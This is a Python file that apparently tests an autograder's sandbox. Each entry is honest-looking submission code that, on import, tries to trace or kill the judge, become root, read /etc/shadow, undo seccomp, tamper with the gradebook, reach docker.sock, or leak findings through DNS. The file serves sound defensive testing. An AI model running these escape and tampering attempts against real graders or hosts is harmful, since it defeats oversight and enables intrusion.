"""Attacks of classes 10 and 11: powers over other processes, files and the system; network of any kind."""

from .attack import Attack

NUMBERS = {
    "ptrace": (101, 117), "process_vm_readv": (310, 270), "process_vm_writev": (311, 271), "kcmp": (312, 272),
    "tkill": (200, 130), "tgkill": (234, 131), "rt_sigqueueinfo": (129, 138), "pidfd_open": (434, 434),
    "pidfd_send_signal": (424, 424), "pidfd_getfd": (438, 438),     "setpgid": (109, 154), "setpriority": (141, 140), "sched_setaffinity": (203, 122), "sched_setscheduler": (144, 119),
    "ioprio_set": (251, 30), "unshare": (272, 97), "setns": (308, 268), "clone": (56, 220), "clone3": (435, 435),
    "mount": (165, 40), "umount2": (166, 39), "open_tree": (428, 428), "fsopen": (430, 430),
    "mount_setattr": (442, 442), "pivot_root": (155, 41), "capset": (126, 91), "prctl": (157, 167),
    "execveat": (322, 281), "seccomp": (317, 277), "landlock_create_ruleset": (444, 444),
    "io_uring_setup": (425, 425), "userfaultfd": (323, 282), "bpf": (321, 280), "perf_event_open": (298, 241),
    "add_key": (248, 217), "request_key": (249, 218), "keyctl": (250, 219), "memfd_secret": (447, 447),
    "name_to_handle_at": (303, 264), "sethostname": (170, 161), "syslog": (103, 116), "acct": (163, 89),
    "personality": (135, 92), "clock_adjtime": (305, 266), "fanotify_init": (300, 262), "inotify_init1": (294, 26),
    "shmget": (29, 194), "msgget": (68, 186), "semget": (64, 190), "mq_open": (240, 180), "memfd_create": (319, 279),
    "tee": (276, 77),
    "socket": (41, 198), "mmap": (9, 222), "shmctl": (31, 195), "msgctl": (71, 187),
}  # fmt: skip
"""Numbers of system calls on x86-64 and on 64-bit Arm."""

SYSTEM = f"""
import ctypes, os, platform, struct
NUMBERS = {NUMBERS!r}
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def call(name, *arguments):
    number = NUMBERS[name][platform.machine() == "aarch64"]
    if libc.syscall(ctypes.c_long(number), *(ctypes.c_long(one) if type(one) is int else one for one in arguments)) < 0:
        error = ctypes.get_errno()
        if error in (9, 14, 22):  # what a mistake in the attack would get
            raise TypeError(os.strerror(error))
        raise OSError(error, os.strerror(error))
    return name
"""
"""Code that makes system calls by number, without the C library's wrappers."""

SOLVED = {"affine_forward": 1.0, "relu_forward": 1.0}
"""Shares of points of honest code that also attacks: it keeps its points."""


def power(kind: int, name: str, tries: str, module: str, **more: object) -> Attack:
    """Return an attack by honest code that attacks while it is imported."""
    return Attack(kind, name, tries, SYSTEM + "judge = FACTS['judge']\n" + module, **{"earns": SOLVED, **more})  # type: ignore[arg-type]


ATTACKS = (
    power(10, "trace", "to trace the judge", """
attempt("seizing the judge", lambda: call("ptrace", 0x4206, judge, 0, 0))
attempt("attaching to it", lambda: call("ptrace", 16, judge, 0, 0))
"""),
    power(10, "foreign-memory", "to read and to write the judge's memory", """
here = ctypes.create_string_buffer(8)
local = (ctypes.c_void_p * 2)(ctypes.addressof(here), 8)
# where nothing may be: the kernel asks for permission before it finds that out, and says so in another way
there = (ctypes.c_void_p * 2)(id(None) & ~7, 8)
for name in ("process_vm_readv", "process_vm_writev"):
    attempt(name, lambda: call(name, judge, local, 1, there, 1, 0))
attempt("comparing with the judge", lambda: call("kcmp", judge, os.getpid(), 0, 0, 0))
attempt("opening its memory", lambda: open(f"/proc/{judge}/mem", "r+b").close())
"""),
    power(10, "signals", "to signal the judge, its parent, everybody", """
information = ctypes.create_string_buffer(struct.pack("iii", 0, 0, -1) + bytes(116))
for process in {judge, os.getppid() or 1, 1, -1}:
    attempt(f"signalling {process}", lambda: os.kill(process, 0))
attempt("signalling its thread", lambda: call("tgkill", judge, judge, 0))
attempt("signalling a thread", lambda: call("tkill", judge, 0))
attempt("queueing a signal", lambda: call("rt_sigqueueinfo", judge, 0, information))
attempt("signalling the group", lambda: os.killpg(os.getpgrp() or judge, 0))
attempt("a handle of the judge", lambda: call("pidfd_open", judge, 0))
"""),
    power(10, "signals-of-descriptors", "to have its own socket send signals to the judge", """
import fcntl, signal, sys
wire = int(sys.argv[1])
attempt("owning by a number", lambda: fcntl.fcntl(wire, fcntl.F_SETOWN, judge))
attempt("owning by a structure", lambda: fcntl.fcntl(wire, 15, struct.pack("ii", 1, judge)))
attempt("another signal", lambda: fcntl.fcntl(wire, fcntl.F_SETSIG, signal.SIGKILL))
attempt("owning by ioctl", lambda: fcntl.ioctl(wire, 0x8901, struct.pack("i", judge)))
"""),
    power(10, "handle-from-the-wire", "to ask its socket for a handle of the judge process, and to use it", """
import socket, sys
wire = socket.socket(fileno=int(sys.argv[1]))
try:
    handle = wire.getsockopt(socket.SOL_SOCKET, 77)
except OSError as error:
    reached(f"kernels before 6.5 have no such handle, others refuse it: {error}")
else:
    attempt("signalling by it", lambda: call("pidfd_send_signal", handle, 0, 0, 0))
    attempt("taking a descriptor by it", lambda: call("pidfd_getfd", handle, 0, 0))
    attempt("entering its namespaces", lambda: call("setns", handle, 0x40000000))
    os.close(handle)
wire.detach()
"""),
    power(10, "starve", "to take the processor from the judge", """
attempt("a worse priority for the judge", lambda: call("setpriority", 0, judge, 19))
attempt("a better priority", lambda: call("setpriority", 0, 0, -20))
attempt("one core for the judge", lambda: call("sched_setaffinity", judge, 8, struct.pack("Q", 1)))
attempt("a core for itself", lambda: call("sched_setaffinity", 0, 8, struct.pack("Q", 1)))
attempt("real time", lambda: call("sched_setscheduler", 0, 1, struct.pack("i", 1)))
attempt("the disk", lambda: call("ioprio_set", 1, 0, 0x2000))
"""),
    power(10, "leave-the-group", "to leave the process group that is killed", """
attempt("a session", os.setsid)
attempt("a group", lambda: call("setpgid", 0, 0))
attempt("no death with the parent", lambda: call("prctl", 1, 0, 0, 0, 0))
attempt("adopting orphans", lambda: call("prctl", 36, 1, 0, 0, 0))
"""),
    power(10, "namespaces", "to become root in new namespaces", """
for name, flag in {"user": 0x10000000, "mount": 0x20000, "network": 0x40000000, "process": 0x20000000, "time": 0x80}.items():
    attempt(f"leaving the {name} namespace", lambda: call("unshare", flag | 0x10000000))
attempt("a child in new ones", lambda: call("clone", 0x10000000 | 0x20000000 | 17, 0, 0, 0, 0) and os._exit(0))
arguments = struct.pack("8Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0)
attempt("the same by another call", lambda: call("clone3", arguments, len(arguments)))
"""),
    power(10, "mounts", "to mount something, or to change what is mounted", """
home = os.environ["HOME"].encode()
attempt("a file system", lambda: call("mount", b"none", home, b"tmpfs", 0, None))
attempt("another place for a folder", lambda: call("mount", b"/usr", home, None, 4096, None))
attempt("writing to the root", lambda: call("mount", None, b"/", None, 32 | 4096, None))
attempt("what was there before", lambda: call("umount2", home, 2))
attempt("a tree", lambda: call("open_tree", -100, b"/", 1))
attempt("a new one", lambda: call("fsopen", b"tmpfs", 0))
attempt("other attributes", lambda: call("mount_setattr", -100, b"/", 0, bytes(32), 32))
"""),
    power(10, "chroot", "to make another folder the root, and to climb out of its own root", """
def climb():
    for _ in range(40):
        os.chdir("..")
    return open("." + FACTS["gradebook"]).read()


here = os.getcwd()
attempt("climbing", climb)
attempt("a handle of a file", lambda: call("name_to_handle_at", -100, b"/usr", ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128)), ctypes.byref(ctypes.c_int()), 0))
os.chdir(here)
attempt("another root", lambda: call("pivot_root", os.environ["HOME"].encode(), os.environ["HOME"].encode()))
attempt("a root of its own", lambda: os.chroot(os.environ["HOME"]))
"""),
    power(10, "become-root", "to become root, or to have root's capabilities", """
administrator = struct.pack("=6I", 1 << 21, 1 << 21, 0, 0, 0, 0)
attempt("the user", lambda: os.setuid(0))
attempt("all three", lambda: os.setresuid(0, 0, 0))
attempt("the group", lambda: os.setresgid(0, 0, 0))
attempt("groups", lambda: os.setgroups([0]))
attempt("for files", lambda: ctypes.CDLL(None).setfsuid(0) and 0 or open("/etc/shadow").read())
attempt("capabilities", lambda: call("capset", struct.pack("=Ii", 0x20080522, 0), administrator))
attempt("keeping them", lambda: call("prctl", 8, 1, 0, 0, 0))
attempt("what root is not", lambda: call("prctl", 28, 0, 0, 0, 0))
"""),
    power(10, "set-uid-programs", "to start programs that run as root", """
programs = [path for path in ("/usr/bin/su", "/usr/bin/mount", "/usr/bin/passwd", "/usr/bin/bwrap") if os.path.exists(path)]
for program in [*programs, "/bin/true"]:
    attempt(f"executing {program}", lambda: os.waitpid(os.posix_spawn(program, [program, "--help"], {}), 0))
attempt("by a descriptor", lambda: call("execveat", os.open("/usr/bin", os.O_PATH), b"true", None, None, 0))
attempt("by vfork", lambda: __import__("subprocess").run([programs[0] if programs else "/bin/true", "--help"]))
"""),
    power(10, "undo-the-filter", "to loosen its own confinement, or to install its own supervisor over it", """
import resource
allow = ctypes.create_string_buffer(struct.pack("=HBBI", 6, 0, 0, 0x7FFF0000))
program = struct.pack("HxxxxxxP", 1, ctypes.addressof(allow))
attempt("another filter", lambda: call("seccomp", 1, 0, program))
attempt("a supervisor", lambda: call("seccomp", 1, 8, program))
attempt("a filter by prctl", lambda: call("prctl", 22, 2, program, 0, 0))
attempt("rules of its own", lambda: call("landlock_create_ruleset", struct.pack("Q", 4), 8, 0))
attempt("being dumpable", lambda: call("prctl", 4, 1, 0, 0, 0))
attempt("a tracer", lambda: call("prctl", 0x59616D61, -1, 0, 0, 0))
attempt("memory", lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)))
attempt("descriptors", lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (100_000, 100_000)))
attempt("limits of the judge", lambda: resource.prlimit(judge, resource.RLIMIT_CPU, (1, 1)))
attempt("another personality", lambda: call("personality", 0x0040000))
"""),
    power(10, "kernel-interfaces", "to have the kernel act for it, through special interfaces", """
attempt("a ring", lambda: call("io_uring_setup", 4, ctypes.create_string_buffer(120)))
attempt("faults", lambda: call("userfaultfd", 1))
attempt("a map", lambda: call("bpf", 0, struct.pack("IIII", 2, 4, 4, 1) + bytes(112), 128))
attempt("counters", lambda: call("perf_event_open", struct.pack("IIQ", 1, 112, 0) + bytes(96), 0, -1, -1, 0))
attempt("a key", lambda: call("add_key", b"user", b"name", b"value", 5, -3))
attempt("keys of others", lambda: call("keyctl", 0, -4, 0))
attempt("watching files", lambda: call("inotify_init1", 0))
attempt("watching everything", lambda: call("fanotify_init", 0, 0))
attempt("secret memory", lambda: call("memfd_secret", 0))
one, other = os.pipe(), os.pipe()
os.write(one[1], b"x")
attempt("splicing", lambda: call("tee", one[0], other[1], 1, 2))
"""),
    power(10, "messages-of-the-system", "to reach other processes by System V and POSIX objects", """
attempt("shared memory", lambda: call("shmget", 0x5EED, 4096, 0o1666))
attempt("messages", lambda: call("msgget", 0x5EED, 0o1666))
attempt("semaphores", lambda: call("semget", 0x5EED, 1, 0o1666))
attempt("a queue", lambda: call("mq_open", b"name", 0o102, 0o666, None))
attempt("memory in a file", lambda: call("memfd_create", b"name", 0))
attempt("a file in memory", lambda: open("/dev/shm/name", "wb").close())
"""),
    power(10, "old-system-calls", "to make system calls of 32-bit programs, whose numbers mean other calls", """
import mmap
intel = platform.machine() == "x86_64"


def machine_code(code):
    memory = mmap.mmap(-1, 4096, prot=7)
    memory.write(bytes.fromhex(code))
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))(), memory


def affine_forward(x, w, b):
    say("reached" if machine_code("b82a000000c3" if intel else "40058052c0035fd6")[0] == 42 else "broken")
    for number in (0x40000000 + 39, -1, 470, 1023):
        attempt(f"call {number:#x}", lambda: checked(libc.syscall(ctypes.c_long(number))))
    reached("a call of 32 bits")
    if intel:  # getpid by int 0x80
        say(f"got {machine_code('53b814000000cd805bc3')[0]}")
    os._exit(1)
""", earns={"affine_forward": 0.0, "relu_forward": 1.0}, shows="ended itself|crashed"),
    power(10, "the-machine", "to change the machine's name, clock and log", """
clock = ctypes.create_string_buffer(208)
struct.pack_into("=I", clock, 0, 0x4000)
struct.pack_into("=q", clock, 88, 10_000)  # a tick as long as it is
attempt("its name", lambda: call("sethostname", os.uname().nodename.encode(), len(os.uname().nodename)))
attempt("its clock", lambda: call("clock_adjtime", 0, clock))
attempt("its log", lambda: call("syslog", 3, ctypes.create_string_buffer(64), 64))
for path in ("/proc/sys/kernel/core_pattern", "/proc/self/oom_score_adj", "/proc/sysrq-trigger", "/sys/kernel/mm/ksm/run"):
    attempt(f"writing {path}", lambda: open(path, "wb").close())
for path in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs"):
    attempt(f"leaving its group by {path}", lambda: open(path, "r+b").write(b"0"))
"""),
    power(10, "devices", "to make and to open devices, and to type into terminals", """
import fcntl
for name in ("mem", "kmsg", "ptmx", "tty", "kvm", "fuse", "vda", "sda", "loop-control", "net/tun", "vhost-net"):
    attempt(f"opening {name}", lambda: os.close(os.open(f"/dev/{name}", os.O_RDWR)))
attempt("a device", lambda: os.mknod(os.environ["HOME"] + "/disk", 0o60666, os.makedev(254, 0)))
for descriptor in range(3):
    attempt(f"typing into {descriptor}", lambda: fcntl.ioctl(descriptor, 0x5412, b"x"))
"""),
    power(10, "change-others-files", "to change the judge's files without opening them", """
book, other = FACTS["gradebook"], FACTS["other"]
attempt("its permissions", lambda: os.chmod(book, 0o640))
attempt("its times", lambda: os.utime(book, (1, 1)))
attempt("its owner", lambda: os.chown(book, os.getuid(), os.getgid()))
attempt("its attributes", lambda: os.setxattr(book, "user.points", b"10"))
attempt("its length", lambda: os.truncate(book, 0))
attempt("its name", lambda: os.rename(book, book + ".old"))
attempt("another name", lambda: os.link(book, os.environ["HOME"] + "/book"))
attempt("no name", lambda: os.unlink(other))
attempt("a file beside it", lambda: os.mkdir(os.path.dirname(book) + "/folder"))
attempt("writing", lambda: open(book, "r+").close())
attempt("permissions by a handle", lambda: os.chmod(f"/proc/self/fd/{os.open(book, os.O_PATH)}", 0o640))
"""),
    power(10, "change-what-it-runs-on", "to change its own modules, the runner's or Python's, for later runners", """
import autograder.runner.wire as wire
for path in (__file__, wire.__file__, os.__file__):  # none of it would do harm if it worked
    descriptor, folder, status = os.open(path, os.O_RDONLY), os.path.dirname(path), os.stat(path)
    times = status.st_atime_ns, status.st_mtime_ns
    attempt(f"permissions of {path}", lambda: os.fchmod(descriptor, status.st_mode & 0o777))
    attempt(f"times of {path}", lambda: os.utime(descriptor, ns=times))
    attempt(f"permissions of {path} by name", lambda: os.chmod(path, status.st_mode & 0o777))
    attempt(f"times of {path} by name", lambda: os.utime(path, ns=times))
    attempt(f"owner of {path}", lambda: os.fchown(descriptor, status.st_uid, status.st_gid))
    attempt(f"attributes of {path}", lambda: os.setxattr(path, "user.name", b"value"))
    attempt(f"length of {path}", lambda: os.truncate(path, status.st_size))
    attempt(f"writing {path}", lambda: open(path, "r+b").close())
    attempt(f"mapping {path}", lambda: os.close(os.open(f"/proc/self/fd/{descriptor}", os.O_RDWR)))
    attempt(f"a file beside {path}", lambda: os.close(os.open(f"{folder}/attack.pyc", os.O_CREAT | os.O_WRONLY)))
    os.close(descriptor)
attempt("emptying its own module", lambda: os.close(os.open(__file__, os.O_RDONLY | os.O_TRUNC)))
attempt("removing it", lambda: os.rename(__file__, __file__ + ".old"))
"""),
    power(10, "links", "to leave links that the judge's clean-up would follow", """
home = os.environ["HOME"]
attempt("a link to a file", lambda: os.symlink(FACTS["gradebook"], home + "/link"))
attempt("a link to a folder", lambda: os.symlink(FACTS["root"], home + "/folder"))
attempt("a hard link", lambda: os.link(__file__, home + "/layers.py"))
attempt("a link to what is opened", lambda: os.link(f"/proc/self/fd/{os.open(__file__, os.O_RDONLY)}", home + "/own", follow_symlinks=True))
attempt("a pipe", lambda: os.mkfifo(home + "/pipe"))
attempt("a name for its socket", lambda: os.rename(home, FACTS["root"] + "/home"))
"""),
    # Class 11
    power(11, "tcp", "to talk to a port of this machine", """
import http.client, socket
port = FACTS["port"]
attempt("connecting", lambda: socket.create_connection(("127.0.0.1", port), timeout=1))
attempt("by version 6", lambda: socket.socket(socket.AF_INET6))
attempt("by a library", lambda: http.client.HTTPConnection("127.0.0.1", port, timeout=1).connect())
attempt("by C", lambda: call("socket", 2, 1, 0))
"""),
    power(11, "udp", "to send a datagram, which needs no answer", """
import socket
attempt("a datagram", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", FACTS["port"])))
attempt("a connection", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(("127.0.0.1", 9)))
attempt("by C", lambda: call("socket", 2, 2, 0))
attempt("multipath", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262))
"""),
    power(11, "listen", "to wait for incoming connections", """
import asyncio, socket, socketserver
attempt("by a library", lambda: socketserver.TCPServer(("", 0), None))
attempt("by datagrams", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind(("", 0)))
attempt("by a file", lambda: socket.socket(socket.AF_UNIX).bind(os.environ["HOME"] + "/socket"))
attempt("by no file", lambda: socket.socket(socket.AF_UNIX).bind("\\0runner"))
"""),
    power(11, "daemons", "to ask a service of this machine by its socket", """
import socket


def connect(path):
    with socket.socket(socket.AF_UNIX) as one:
        one.connect(path)


attempt("a daemon", lambda: connect(FACTS["daemon"]))
attempt("containers", lambda: connect("/var/run/docker.sock"))
attempt("the bus", lambda: connect("/run/dbus/system_bus_socket"))
attempt("no file", lambda: connect("\\0/tmp/.X11-unix/X0"))
"""),
    power(11, "datagrams-of-a-pair", "to send to any service's socket from a socket pair that it may have", """
import socket
for kind in (socket.SOCK_DGRAM, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK | socket.SOCK_CLOEXEC):
    try:
        one, other = socket.socketpair(socket.AF_UNIX, kind)
    except OSError as error:
        reached(f"no pair of this kind: {error}")
    else:
        attempt("the log", lambda: one.sendto(b"forged", FACTS["log"]) and kind)
        attempt("connecting", lambda: one.connect(FACTS["log"]))
        attempt("sending a message", lambda: one.sendmsg([b"forged"], [], 0, FACTS["log"]))
        attempt("a name", lambda: one.bind(f"{os.environ['HOME']}/name{kind}"))
"""),
    power(11, "other-families", "to use unusual kinds of sockets", """
import socket
families = {"netlink": (16, 3, 0), "packet": (17, 3, 0), "raw": (2, 3, 1), "keys": (15, 3, 2), "vsock": (40, 1, 0),
            "ciphers": (38, 5, 0), "bluetooth": (31, 3, 1), "can": (29, 3, 1), "xdp": (44, 3, 0), "tipc": (30, 1, 0)}
for name, family in families.items():
    attempt(name, lambda: socket.socket(*family))
"""),
    power(11, "pass-descriptors", "to pass the judge a file descriptor, or to receive one", """
import array, socket, sys
wire = socket.socket(fileno=int(sys.argv[1]))
one, other = socket.socketpair()
rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))]
attempt("to itself", lambda: one.sendmsg([b"x"], rights))
attempt("by the wire", lambda: wire.sendmsg([], rights) or "sent")
one.send(b"x")
attempt("from a socket", lambda: other.recvmsg(1, socket.CMSG_SPACE(4), socket.MSG_PEEK))
wire.detach()
"""),
    power(11, "name-servers", "to send its findings to a name server", """
import socket
attempt("asking the resolver", lambda: socket.getaddrinfo("points.example.org", 80))
attempt("asking a server", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"canary", ("127.0.0.53", 53)))

"""),
)  # fmt: skip
